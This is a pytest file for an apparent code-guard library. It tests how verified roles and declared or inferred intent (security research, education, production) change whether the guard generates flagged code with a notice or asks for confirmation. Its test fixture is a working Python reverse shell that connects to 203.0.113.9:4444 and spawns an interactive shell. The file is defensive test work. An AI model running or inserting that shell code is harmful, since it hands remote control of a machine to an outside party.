"""Which intent governs: a declaration counts only behind a cleared, verified role; inference never
unlocks what the role is not cleared for; a declaration the project contradicts is reported."""

from __future__ import annotations

from test_infer import COURSE, CTF, SERVICE

from codeward import Actor, Context, Guard, Subject
from codeward.intent.infer import infer
from codeward.intent.resolve import Clearances, resolve_intent
from codeward.model import Action

CLEARANCES = Clearances(
    {
        "general": frozenset({"*"}),
        "production": frozenset({"*"}),
        "education": frozenset({"student", "instructor"}),
        "security_research": frozenset({"security-engineer"}),
    }
)
STUDENT = Actor(id="sam", roles=["student"], verified=True, method="token")
RESEARCHER = Actor(id="rita", roles=["security-engineer"], verified=True, method="token")
CLAIMED_RESEARCHER = Actor(id="mallory", roles=["security-engineer"], verified=False, method="cli")
REVERSE_SHELL = (
    "import socket, subprocess, os\n"
    "s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)\n"
    "s.connect(('203.0.113.9', 4444))\n"
    "os.dup2(s.fileno(), 0)\nos.dup2(s.fileno(), 1)\nos.dup2(s.fileno(), 2)\n"
    "subprocess.call(['/bin/sh', '-i'])\n"
)


def resolve(context: Context) -> tuple[str, bool, list[str]]:
    intent, findings = resolve_intent(context, CLEARANCES, infer(context))
    return intent.name, intent.authorized, [f.capability for f in findings]


def test_a_verified_cleared_role_makes_a_declaration_count() -> None:
    assert resolve(Context(actor=RESEARCHER, declared_intent="security_research")) == (
        "security_research",
        True,
        [],
    )


def test_a_declared_intent_without_clearance_is_not_trusted() -> None:
    assert resolve(Context(actor=STUDENT, declared_intent="security_research")) == (
        "security_research",
        False,
        ["intent.unauthorized"],
    )


def test_an_unverified_role_is_not_enough() -> None:
    assert resolve(Context(actor=CLAIMED_RESEARCHER, declared_intent="security_research")) == (
        "security_research",
        False,
        ["intent.unauthorized"],
    )


def test_an_unknown_intent_is_not_trusted() -> None:
    assert resolve(Context(actor=RESEARCHER, declared_intent="anything_goes"))[1:] == (
        False,
        ["intent.unauthorized"],
    )


def test_inference_never_unlocks_what_the_role_is_not_cleared_for() -> None:
    intent, findings = resolve_intent(
        Context(actor=CLAIMED_RESEARCHER, project=CTF), CLEARANCES, infer(Context(project=CTF))
    )
    assert (intent.name, intent.source, intent.authorized, findings) == (
        "security_research",
        "inferred",
        False,
        [],
    )


def test_an_intent_everyone_is_cleared_for_can_be_inferred_and_trusted() -> None:
    intent, _ = resolve_intent(Context(project=SERVICE), CLEARANCES, infer(Context(project=SERVICE)))
    assert (intent.name, intent.source, intent.authorized) == ("production", "inferred", True)


def test_a_declaration_the_project_contradicts_is_reported_and_not_trusted() -> None:
    context = Context(actor=STUDENT, declared_intent="education", project=SERVICE)
    intent, findings = resolve_intent(context, CLEARANCES, infer(context))
    assert intent.authorized is False
    (mismatch,) = findings
    assert mismatch.capability == "intent.mismatch"
    assert "looks like production" in mismatch.message


def test_security_work_inside_a_service_is_not_a_contradiction() -> None:
    assert resolve(Context(actor=RESEARCHER, declared_intent="security_research", project=SERVICE)) == (
        "security_research",
        True,
        [],
    )


def test_a_declaration_matching_the_project_is_not_a_contradiction() -> None:
    assert resolve(Context(actor=STUDENT, declared_intent="education", project=COURSE)) == (
        "education",
        True,
        [],
    )


def test_the_distribution_covers_the_policy_catalogue_only() -> None:
    intent, _ = resolve_intent(Context(project=CTF), CLEARANCES, infer(Context(project=CTF)))
    assert set(intent.distribution) == {"general", "production", "education", "security_research"}
    assert abs(sum(intent.distribution.values()) - 1.0) < 0.01


def test_an_intent_only_the_policy_knows_is_in_the_distribution_with_no_share() -> None:
    catalogue = Clearances({**CLEARANCES.roles_by_intent, "compliance_audit": frozenset({"auditor"})})
    intent, _ = resolve_intent(Context(project=CTF), catalogue, infer(Context(project=CTF)))
    assert intent.distribution["compliance_audit"] == 0.0
    assert intent.name == "security_research"


# ---------------------------------------------------------------------------- through the engine
def generate(guard: Guard, context: Context) -> Action:
    return guard.check(Subject(content=REVERSE_SHELL, language="python", mode="generate"), context).action


def test_a_ctf_repository_alone_does_not_lower_friction_for_an_unverified_actor(guard: Guard) -> None:
    assert generate(guard, Context()) is Action.CONFIRM
    assert generate(guard, Context(project=CTF)) is Action.CONFIRM
    assert generate(guard, Context(actor=CLAIMED_RESEARCHER, project=CTF)) is Action.CONFIRM


def test_a_cleared_researcher_gets_less_friction_than_a_claimed_one(guard: Guard) -> None:
    verified = Context(actor=RESEARCHER, declared_intent="security_research", project=CTF)
    claimed = Context(actor=CLAIMED_RESEARCHER, declared_intent="security_research", project=CTF)
    assert (generate(guard, verified), generate(guard, claimed)) == (Action.NOTICE, Action.CONFIRM)


def test_a_student_in_a_course_is_trusted_but_not_inside_a_production_service(guard: Guard) -> None:
    in_course = Context(actor=STUDENT, declared_intent="education", project=COURSE)
    in_service = Context(actor=STUDENT, declared_intent="education", project=SERVICE)
    assert generate(guard, in_course) is Action.NOTICE
    decision = guard.check(Subject(content=REVERSE_SHELL, language="python", mode="generate"), in_service)
    assert decision.action is Action.CONFIRM
    assert "intent.mismatch" in {f.capability for f in decision.findings}


def test_an_inferred_intent_lowers_friction_for_a_cleared_verified_role(guard: Guard) -> None:
    assert generate(guard, Context(actor=RESEARCHER)) is Action.CONFIRM
    assert generate(guard, Context(actor=RESEARCHER, project=CTF)) is Action.NOTICE
